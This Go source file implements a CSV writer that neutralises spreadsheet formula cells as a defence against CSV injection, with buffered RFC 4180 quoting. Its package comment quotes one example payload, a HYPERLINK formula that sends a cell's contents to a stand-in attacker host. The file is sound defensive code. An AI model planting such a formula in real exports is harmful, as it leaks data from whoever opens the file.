// Package csvsafe writes CSV that is safe to open in a spreadsheet: every
// cell that a spreadsheet would read as a formula is neutralised with a
// leading single quote, as OWASP's "CSV injection" guidance advises.
//
// Exports hold text that outsiders typed (names, messages, e-mail
// addresses); a cell such as =HYPERLINK("http://evil/?"&A1) would otherwise
// run when an administrator opens the file. Quoting and escaping are
// encoding/csv's, byte for byte (FuzzWriter compares the two), so the
// output stays plain RFC 4180 CSV; they are done here, in one pass over
// each cell into one buffer, because encoding/csv took half the CPU time
// of the audit export (docs/benchmarks-export.md).
package csvsafe

import (
	"fmt"
	"io"
	"strings"
	"unicode"
	"unicode/utf8"
)

// BufferSize is the write buffer of a Writer: large enough that a file or
// socket sees few, big writes.
const BufferSize = 64 << 10

// NeedsQuote reports whether a spreadsheet would treat cell as a formula or
// as the start of one: it begins with =, +, -, @, a tab or a carriage
// return. Negative numbers such as -5 are neutralised too; a spreadsheet
// then shows them as text, which is the price of never running a formula.
func NeedsQuote(cell string) bool {
	if cell == "" {
		return false
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// Neutralise returns cell with a single quote in front when NeedsQuote says
// so, and cell itself otherwise (without allocating).
func Neutralise(cell string) string {
	if NeedsQuote(cell) {
		return "'" + cell
	}
	return cell
}

// Writer writes neutralised CSV records through a buffer. Like csv.Writer
// it is not safe for concurrent use; call Flush at the end and check its
// error.
type Writer struct {
	w   io.Writer
	buf []byte
	err error // the first write error; every later call returns it
}

// NewWriter returns a Writer that writes to w with a BufferSize buffer.
func NewWriter(w io.Writer) *Writer {
	return &Writer{w: w, buf: make([]byte, 0, BufferSize)}
}

// Write writes one record, neutralising its cells. It never modifies
// record, so callers may reuse the slice for the next row.
func (w *Writer) Write(record []string) error {
	if w.err != nil {
		return fmt.Errorf("write csv record: %w", w.err)
	}
	b := w.buf
	for i, cell := range record {
		if i > 0 {
			b = append(b, ',')
		}
		neutralise := NeedsQuote(cell)
		// As encoding/csv decides for the cell as written: the quote put
		// in front is neither special nor a space.
		quote := hasSpecial(cell) || (!neutralise && (cell == `\.` || startsWithSpace(cell)))
		if quote {
			b = append(b, '"')
		}
		if neutralise {
			b = append(b, '\'')
		}
		if quote {
			b = appendEscaped(b, cell)
			b = append(b, '"')
		} else {
			b = append(b, cell...)
		}
	}
	w.buf = append(b, '\n')
	if len(w.buf) >= BufferSize {
		if err := w.flush(); err != nil {
			return fmt.Errorf("write csv record: %w", err)
		}
	}
	return nil
}

// Flush writes any buffered data to the underlying writer and reports the
// first error any Write or Flush met.
func (w *Writer) Flush() error {
	if err := w.flush(); err != nil {
		return fmt.Errorf("flush csv: %w", err)
	}
	return nil
}

func (w *Writer) flush() error {
	if w.err != nil {
		return w.err
	}
	if len(w.buf) > 0 {
		_, w.err = w.w.Write(w.buf)
		w.buf = w.buf[:0]
	}
	return w.err
}

// special marks the bytes that make encoding/csv quote a cell: the
// separator, the quote and line breaks.
var special = [256]bool{',': true, '"': true, '\n': true, '\r': true}

func hasSpecial(cell string) bool {
	for i := 0; i < len(cell); i++ {
		if special[cell[i]] {
			return true
		}
	}
	return false
}

// startsWithSpace: encoding/csv quotes a cell that starts with a Unicode
// space, which readers would otherwise trim.
func startsWithSpace(cell string) bool {
	if cell == "" {
		return false
	}
	if c := cell[0]; c < utf8.RuneSelf {
		return c == ' ' || (c >= '\t' && c <= '\r') // unicode.IsSpace's ASCII spaces
	}
	r, _ := utf8.DecodeRuneInString(cell)
	return unicode.IsSpace(r)
}

// appendEscaped appends cell with each double quote doubled; line breaks
// stay as they are (encoding/csv without UseCRLF).
func appendEscaped(b []byte, cell string) []byte {
	for {
		i := strings.IndexByte(cell, '"')
		if i < 0 {
			return append(b, cell...)
		}
		b = append(b, cell[:i+1]...)
		b = append(b, '"')
		cell = cell[i+1:]
	}
}
